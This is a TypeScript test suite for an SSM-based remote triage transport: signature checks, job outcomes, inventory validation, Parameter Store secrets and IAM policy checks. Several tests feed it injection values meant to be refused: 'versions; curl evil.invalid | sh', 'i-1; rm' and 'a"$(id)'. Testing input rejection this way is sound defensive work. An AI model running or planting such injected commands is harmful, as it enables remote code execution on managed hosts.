import { readFileSync } from "node:fs";
import { createServer, type Server, type Socket } from "node:net";
import { userInfo } from "node:os";
import { dirname, join } from "node:path";
import { SendCommandCommand, SSMClient } from "@aws-sdk/client-ssm";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { type StepResult, TRIAGE_STEP_NAMES, TRIAGE_STEPS } from "../../src/contract/catalog.ts";
import { STEP_SPEC_PATTERN } from "../../src/contract/ssm-output.ts";
import { classifyResults } from "../../src/core/classify/classify.ts";
import type { JobOutcome } from "../../src/core/ports/transport.ts";
import { resolveSecrets } from "../../src/node/secrets.ts";
import { loadSsmInventory, SsmInventory } from "../../src/node/ssm-inventory.ts";
import { SsmTransport } from "../../src/node/ssm-transport.ts";
import { quietLogger } from "../support/harness.ts";
import { REPO_ROOT, SsmStandIn } from "../support/ssm-standin.ts";

const KEY = { accessKeyId: "AKIACLAWOPSTEST00001", secretAccessKey: "test-secret-key/clawops+0123456789abcdefXYZ" };
const REGION = "eu-west-1";
const RUN_AS = userInfo().username;

const quiet = quietLogger;

/** A host with no gateway and no openclaw CLI: the real probes run and find nothing. */
const hostEnv = (extra: Record<string, string> = {}) => ({
  PATH: `${dirname(process.execPath)}:/usr/bin:/bin`,
  HOME: process.env.HOME ?? "/root",
  CLAWOPS_HOME: REPO_ROOT,
  OPENCLAW_GATEWAY_PORT: "1",
  OPENCLAW_CONFIG_PATH: "/nonexistent/clawops-ssm-test/openclaw.json",
  OPENCLAW_STATE_DIR: "/nonexistent/clawops-ssm-test/state",
  CLAWOPS_OPENCLAW_BIN: "/nonexistent/clawops-ssm-test/openclaw",
  ...extra,
});

const INSTANCES = {
  healthy: "i-0000000000000a001",
  undeliverable: "i-0000000000000a002",
  delayed: "i-0000000000000a003",
  cancelled: "i-0000000000000a004",
  notInstalled: "i-0000000000000a005",
  unknown: "i-0000000000000a0ff",
};

let ssm: SsmStandIn;
let silent: Server;
let silentPort: number;
const silentSockets = new Set<Socket>();
const clients: SSMClient[] = [];

function client(credentials = KEY): SSMClient {
  const c = new SSMClient({ region: REGION, endpoint: ssm.url, credentials, maxAttempts: 1 });
  clients.push(c);
  return c;
}

function inventory(extra: Record<string, string> = {}): SsmInventory {
  return SsmInventory.parse({
    region: REGION,
    runAs: RUN_AS,
    hosts: [
      ...Object.entries(INSTANCES).map(([host, instanceId]) => ({ host: host.toLowerCase(), instanceId })),
      ...Object.entries(extra).map(([host, instanceId]) => ({ host, instanceId })),
    ],
  });
}

function transport(opts: { waits?: number[]; grace?: number; ssmClient?: SSMClient } = {}) {
  return new SsmTransport({
    client: opts.ssmClient ?? client(),
    inventory: inventory(),
    logger: quiet,
    poll: { initialMs: 20, maxMs: 200, factor: 2 },
    ...(opts.grace !== undefined ? { executionGraceSeconds: opts.grace } : {}),
    sleep: (ms) => {
      opts.waits?.push(ms);
      return new Promise((r) => setTimeout(r, ms));
    },
  });
}

const job = (overrides: Partial<{ deadlineMs: number; steps: typeof TRIAGE_STEPS }> = {}) => ({
  jobId: `job_${Math.random().toString(36).slice(2)}`,
  steps: TRIAGE_STEPS,
  deadlineMs: 20_000,
  ...overrides,
});

beforeAll(async () => {
  ssm = new SsmStandIn({ ...KEY, region: REGION });
  ssm.instances.set(INSTANCES.healthy, { kind: "run", env: hostEnv() });
  ssm.instances.set(INSTANCES.undeliverable, { kind: "undeliverable" });
  ssm.instances.set(INSTANCES.delayed, { kind: "delivery-timeout" });
  ssm.instances.set(INSTANCES.cancelled, { kind: "cancel" });
  ssm.instances.set(INSTANCES.notInstalled, { kind: "run", env: hostEnv({ CLAWOPS_HOME: "/nonexistent/clawops" }) });
  await ssm.start();
  // A "gateway" that accepts TCP and never answers: the WebSocket probe waits its whole timeout.
  silent = createServer((socket) => {
    silentSockets.add(socket);
    socket.on("close", () => silentSockets.delete(socket));
  });
  await new Promise<void>((r) => silent.listen(0, "127.0.0.1", r));
  silentPort = (silent.address() as { port: number }).port;
  ssm.instances.set("i-0000000000000a0aa", {
    kind: "run",
    env: hostEnv({ OPENCLAW_GATEWAY_PORT: String(silentPort) }),
  });
});

afterAll(async () => {
  for (const c of clients) c.destroy();
  await ssm.stop();
  for (const s of silentSockets) s.destroy();
  await new Promise<void>((r) => silent.close(() => r()));
});

describe("SigV4 at the SSM stand-in", () => {
  it("accepts the SDK's signature and refuses a wrong secret key or an unknown key id with AWS's errors", async () => {
    const send = (c: SSMClient) =>
      c.send(
        new SendCommandCommand({
          DocumentName: "ClawopsProbe",
          InstanceIds: [INSTANCES.undeliverable],
          Parameters: { Steps: ["versions"], RunAs: [RUN_AS] },
        }),
      );
    await expect(send(client())).resolves.toMatchObject({ Command: { CommandId: expect.any(String) } });
    const refusedBefore = ssm.refused.length;
    await expect(send(client({ ...KEY, secretAccessKey: `${KEY.secretAccessKey}x` }))).rejects.toMatchObject({
      name: "InvalidSignatureException",
      message: expect.stringContaining("does not match the signature you provided"),
    });
    await expect(send(client({ ...KEY, accessKeyId: "AKIAUNKNOWNKEY000000" }))).rejects.toMatchObject({
      name: "UnrecognizedClientException",
    });
    expect(ssm.refused.slice(refusedBefore).map((r) => r.type)).toEqual([
      "InvalidSignatureException",
      "UnrecognizedClientException",
    ]);
  });

  it("the document's allowedPattern refuses shell text in the Steps parameter", async () => {
    await expect(
      client().send(
        new SendCommandCommand({
          DocumentName: "ClawopsProbe",
          InstanceIds: [INSTANCES.healthy],
          Parameters: { Steps: ["versions; curl evil.invalid | sh"] },
        }),
      ),
    ).rejects.toMatchObject({ name: "InvalidParameters" });
  });

  it("a transport with a wrong secret key reports the job lost with the AWS error, not a crash", async () => {
    const t = transport({ ssmClient: client({ ...KEY, secretAccessKey: "wrong" }) });
    const outcome = await t.dispatch("healthy", job(), () => {});
    expect(outcome).toMatchObject({ status: "lost", reason: expect.stringContaining("InvalidSignatureException") });
  });
});

describe("SSM transport", () => {
  afterEach(() => {
    expect(
      ssm.refused.filter((r) => r.type !== "InvalidSignatureException" && r.type !== "UnrecognizedClientException"),
    ).toEqual([]);
  });

  it("runs the real document and agent one-shot; results reach the same classifier", async () => {
    const waits: number[] = [];
    const progress: StepResult[] = [];
    const sentBefore = ssm.invocations.length;
    const outcome = await transport({ waits }).dispatch("healthy", job(), (r) => progress.push(r));
    expect(outcome.status).toBe("done");
    const results = (outcome as Extract<JobOutcome, { status: "done" }>).results;
    expect(results.map((r) => r.step).sort()).toEqual([...TRIAGE_STEP_NAMES].sort());
    // Progress sees every result once, as each command finishes.
    const byStep = (a: StepResult, b: StepResult) => a.step.localeCompare(b.step);
    expect([...progress].sort(byStep)).toEqual([...results].sort(byStep));
    // Two commands: fast steps, and the slow CLI steps, each polled until Success.
    const mine = ssm.invocations.slice(sentBefore);
    expect(mine).toHaveLength(2);
    for (const inv of mine) {
      expect(inv.status).toBe("Success");
      // The first poll met InvocationDoesNotExist and polling went on.
      expect(inv.polls).toBeGreaterThanOrEqual(2);
    }
    // Backoff: each wait is at least the last one, doubling up to the cap.
    for (let i = 1; i < waits.length; i++) expect(waits[i]).toBeGreaterThanOrEqual(waits[i - 1] as number);
    expect(waits).toContain(40);
    expect(Math.max(...waits)).toBeLessThanOrEqual(200);
    const ws = results.find((r) => r.step === "gateway.ws");
    expect(ws?.step === "gateway.ws" && ws.data?.outcome).toBe("refused");
    const c12n = classifyResults(results, TRIAGE_STEP_NAMES);
    expect(c12n.findings.length).toBeGreaterThan(0);
    expect(c12n.matrix.process.status).toBe("fail");
  });

  it("Undeliverable, DeliveryTimedOut and Cancelled end the job as lost, each saying why", async () => {
    const t = transport();
    const steps = [{ step: "versions" as const, args: {} }];
    const undeliverable = await t.dispatch("undeliverable", job({ steps }), () => {});
    expect(undeliverable).toMatchObject({ status: "lost", reason: expect.stringContaining("Undeliverable") });
    const delayed = await t.dispatch("delayed", job({ steps }), () => {});
    expect(delayed).toMatchObject({ status: "lost", reason: expect.stringContaining("DeliveryTimedOut") });
    const cancelled = await t.dispatch("cancelled", job({ steps }), () => {});
    expect(cancelled).toMatchObject({ status: "lost", reason: expect.stringContaining("cancelled") });
    // The stand-in passed through Delayed and Cancelling (non-terminal) before the end.
    expect(ssm.invocations.find((i) => i.instanceId === INSTANCES.delayed)?.statusDetails).toBe("DeliveryTimedOut");
  });

  it("ExecutionTimedOut: SSM stops a script that outlives its execution timeout; steps are marked timed out", async () => {
    const t = new SsmTransport({
      client: client(),
      inventory: inventory({ "silent-gw": "i-0000000000000a0aa" }),
      logger: quiet,
      poll: { initialMs: 20, maxMs: 200 },
      executionGraceSeconds: 0,
    });
    // A 1 s execution timeout for a WebSocket probe that waits 5 s on a gateway that never speaks.
    const outcome = await t.dispatch(
      "silent-gw",
      job({ deadlineMs: 1_000, steps: [{ step: "gateway.ws", args: { timeoutMs: 5_000 } }] }),
      () => {},
    );
    expect(outcome.status).toBe("timeout");
    const results = (outcome as Extract<JobOutcome, { status: "timeout" }>).results;
    expect(results).toEqual([
      expect.objectContaining({
        step: "gateway.ws",
        status: "error",
        error: expect.objectContaining({ code: "ssm_execution_timeout" }),
      }),
    ]);
  });

  it("Failed: the agent's refusal comes back as rejected; a host without clawops as lost", async () => {
    const t = transport();
    // 700 s passes the document's pattern but not the agent's own 600 s ceiling.
    const refused = await t.dispatch(
      "healthy",
      job({ deadlineMs: 700_000, steps: [{ step: "versions", args: {} }] }),
      () => {},
    );
    expect(refused).toMatchObject({
      status: "rejected",
      error: { code: "bad_job", message: expect.stringContaining("600000") },
    });
    const broken = await t.dispatch("notinstalled", job({ steps: [{ step: "versions", args: {} }] }), () => {});
    expect(broken).toMatchObject({
      status: "lost",
      reason: expect.stringMatching(/failed .* before the agent printed/),
    });
  });

  it("output cut by SSM's limit: complete frames are used, the rest reported as truncated", async () => {
    const small = new SsmStandIn({ ...KEY, region: REGION, stdoutLimit: 1_500 });
    small.instances.set(INSTANCES.healthy, { kind: "run", env: hostEnv() });
    await small.start();
    try {
      const c = new SSMClient({ region: REGION, endpoint: small.url, credentials: KEY, maxAttempts: 1 });
      clients.push(c);
      const t = new SsmTransport({
        client: c,
        inventory: inventory(),
        logger: quiet,
        poll: { initialMs: 20, maxMs: 200 },
      });
      const fastSteps = TRIAGE_STEPS.filter(
        (s) => !["gateway.status", "doctor.lint", "models.status"].includes(s.step),
      );
      const outcome = await t.dispatch("healthy", job({ steps: fastSteps }), () => {});
      expect(outcome.status).toBe("done");
      const results = (outcome as Extract<JobOutcome, { status: "done" }>).results;
      expect(results.map((r) => r.step).sort()).toEqual(fastSteps.map((s) => s.step).sort());
      const cut = results.filter((r) => r.error?.code === "ssm_output_truncated");
      const whole = results.filter((r) => r.error?.code !== "ssm_output_truncated");
      expect(cut.length).toBeGreaterThan(0);
      expect(whole.length).toBeGreaterThan(0);
      expect(small.invocations[0]?.stdout.length).toBe(1_500);
    } finally {
      await small.stop();
    }
  });

  it("throttled polls are retried; a poll that keeps failing ends the job as lost with the AWS error", async () => {
    for (const [throttled, expected] of [
      [2, "done"],
      [50, "lost"],
    ] as const) {
      const standin = new SsmStandIn({ ...KEY, region: REGION, throttledPolls: throttled });
      standin.instances.set(INSTANCES.healthy, { kind: "run", env: hostEnv() });
      await standin.start();
      try {
        const c = new SSMClient({ region: REGION, endpoint: standin.url, credentials: KEY, maxAttempts: 1 });
        clients.push(c);
        const t = new SsmTransport({
          client: c,
          inventory: inventory(),
          logger: quiet,
          poll: { initialMs: 20, maxMs: 100 },
        });
        const outcome = await t.dispatch("healthy", job({ steps: [{ step: "versions", args: {} }] }), () => {});
        expect(outcome.status, `${throttled} throttled polls`).toBe(expected);
        if (outcome.status === "lost") expect(outcome.reason).toContain("ThrottlingException");
      } finally {
        await standin.stop();
      }
    }
  });

  it("an instance SSM does not know, and a host missing from the inventory, are reported as such", async () => {
    const t = transport();
    const unknownInstance = await t.dispatch("unknown", job(), () => {});
    expect(unknownInstance).toMatchObject({ status: "lost", reason: expect.stringContaining("InvalidInstanceId") });
    expect(await t.isOnline("nobody")).toBe(false);
    const unmapped = await t.dispatch("nobody", job(), () => {});
    expect(unmapped).toMatchObject({ status: "lost", reason: expect.stringContaining("not in the SSM inventory") });
  });
});

describe("SSM inventory", () => {
  it("maps hosts to instance ids and refuses bad ids, duplicate hosts and unknown keys", () => {
    const inv = loadSsmInventory({
      CLAWOPS_SSM_INVENTORY_JSON: JSON.stringify({ hosts: [{ host: "GW-1", instanceId: "mi-0123456789abcdef0" }] }),
    });
    expect(inv).toEqual({
      documentName: "ClawopsProbe",
      hosts: [{ host: "gw-1", instanceId: "mi-0123456789abcdef0" }],
    });
    expect(loadSsmInventory({})).toBeNull();
    const bad = (v: unknown) => () => loadSsmInventory({ CLAWOPS_SSM_INVENTORY_JSON: JSON.stringify(v) });
    expect(bad({ hosts: [{ host: "a", instanceId: "i-1; rm" }] })).toThrow(/instanceId/);
    expect(
      bad({
        hosts: [
          { host: "a", instanceId: "i-0123456789abcdef0" },
          { host: "A", instanceId: "i-0123456789abcdef1" },
        ],
      }),
    ).toThrow(/duplicate host a/);
    expect(bad({ hosts: [], command: "ls" })).toThrow(/invalid/);
    expect(() => loadSsmInventory({ CLAWOPS_SSM_INVENTORY: "/nonexistent/inventory.json" })).toThrow(/Cannot read/);
  });
});

describe("secrets from SSM Parameter Store", () => {
  it("reads missing secrets as decrypted SecureStrings; the environment wins; a plain String is refused", async () => {
    ssm.setSecureString("/clawops/test/SLACK_SIGNING_SECRET", "from-ssm-signing-secret");
    ssm.setSecureString("/clawops/test/SLACK_BOT_TOKEN", "xoxb-from-ssm");
    ssm.setSecureString("/clawops/test/JIRA_API_TOKEN", "jira-token-from-ssm");
    const { secrets, sources } = await resolveSecrets(
      { CLAWOPS_SSM_PARAMETER_PATH: "/clawops/test/", SLACK_BOT_TOKEN: "xoxb-from-env" },
      () => client(),
    );
    expect(secrets).toEqual({
      SLACK_SIGNING_SECRET: "from-ssm-signing-secret",
      SLACK_BOT_TOKEN: "xoxb-from-env",
      JIRA_API_TOKEN: "jira-token-from-ssm",
    });
    expect(sources).toEqual({ SLACK_SIGNING_SECRET: "ssm", SLACK_BOT_TOKEN: "env", JIRA_API_TOKEN: "ssm" });
    const call = ssm.calls.findLast((c) => c.target === "AmazonSSM.GetParameters");
    expect(call?.body).toMatchObject({ WithDecryption: true });

    ssm.parameters.set("/clawops/plain/SLACK_SIGNING_SECRET", { type: "String", value: "plain-text-secret" });
    const plain = resolveSecrets({ CLAWOPS_SSM_PARAMETER_PATH: "/clawops/plain/" }, () => client());
    await expect(plain).rejects.toThrow(/not a SecureString/);
    await expect(plain).rejects.not.toThrow(/plain-text-secret/);
  });

  it("a wrong secret key fails with a message that names the path, not any value", async () => {
    const err = await resolveSecrets({ CLAWOPS_SSM_PARAMETER_PATH: "/clawops/test/" }, () =>
      client({ ...KEY, secretAccessKey: "nope" }),
    ).catch((e: Error) => e);
    expect(err).toBeInstanceOf(Error);
    expect((err as Error).message).toContain("InvalidSignatureException");
    expect((err as Error).message).toContain("/clawops/test/");
    expect((err as Error).message).not.toContain("from-ssm");
  });
});

describe("infra/ssm", () => {
  const read = (f: string) => JSON.parse(readFileSync(join(REPO_ROOT, "infra/ssm", f), "utf8"));

  it("the document takes only pattern-checked parameters, and its Steps pattern is the agent's own", () => {
    const doc = read("clawops-probe.json");
    expect(doc.schemaVersion).toBe("2.2");
    expect(doc.mainSteps.map((s: { action: string }) => s.action)).toEqual(["aws:runShellScript"]);
    for (const [name, p] of Object.entries(doc.parameters as Record<string, { allowedPattern?: string }>)) {
      expect(p.allowedPattern, name).toMatch(/^\^.*\$$/);
    }
    expect(doc.parameters.Steps.allowedPattern).toBe(STEP_SPEC_PATTERN.source);
    // Parameters appear in the script only inside double quotes, and none can hold a quote or `$`.
    const script = doc.mainSteps[0].inputs.runCommand.join("\n");
    for (const m of script.matchAll(/\{\{ (\w+) \}\}/g)) {
      if (m[1] === "executionTimeout") continue;
      expect(new RegExp(doc.parameters[m[1] as string].allowedPattern).test('a"$(id)')).toBe(false);
    }
  });

  it("the IAM policy sends only the clawops document, only to tagged nodes; secrets only under /clawops/", () => {
    const policy = read("clawops-control-plane-policy.json");
    const statements = policy.Statement as {
      Action: string | string[];
      Resource: string | string[];
      Condition?: Record<string, Record<string, string>>;
    }[];
    const actions = (s: (typeof statements)[number]) => [s.Action].flat();
    const send = statements.filter((s) => actions(s).includes("ssm:SendCommand"));
    expect(send.flatMap((s) => [s.Resource].flat()).sort()).toEqual([
      "arn:aws:ec2:REGION:ACCOUNT_ID:instance/*",
      "arn:aws:ssm:REGION:ACCOUNT_ID:document/ClawopsProbe",
      "arn:aws:ssm:REGION:ACCOUNT_ID:managed-instance/*",
    ]);
    for (const s of send.filter((s) => [s.Resource].flat().some((r) => r.includes("instance/")))) {
      expect(s.Condition?.StringEquals?.["ssm:resourceTag/clawops"]).toBe("enabled");
    }
    const all = statements.flatMap(actions).sort();
    expect(all).toEqual([
      "kms:Decrypt",
      "ssm:GetCommandInvocation",
      "ssm:GetParameter",
      "ssm:GetParameters",
      "ssm:ListCommandInvocations",
      "ssm:SendCommand",
      "ssm:SendCommand",
    ]);
    const params = statements.find((s) => actions(s).includes("ssm:GetParameters"));
    expect(params?.Resource).toBe("arn:aws:ssm:REGION:ACCOUNT_ID:parameter/clawops/*");
  });
});
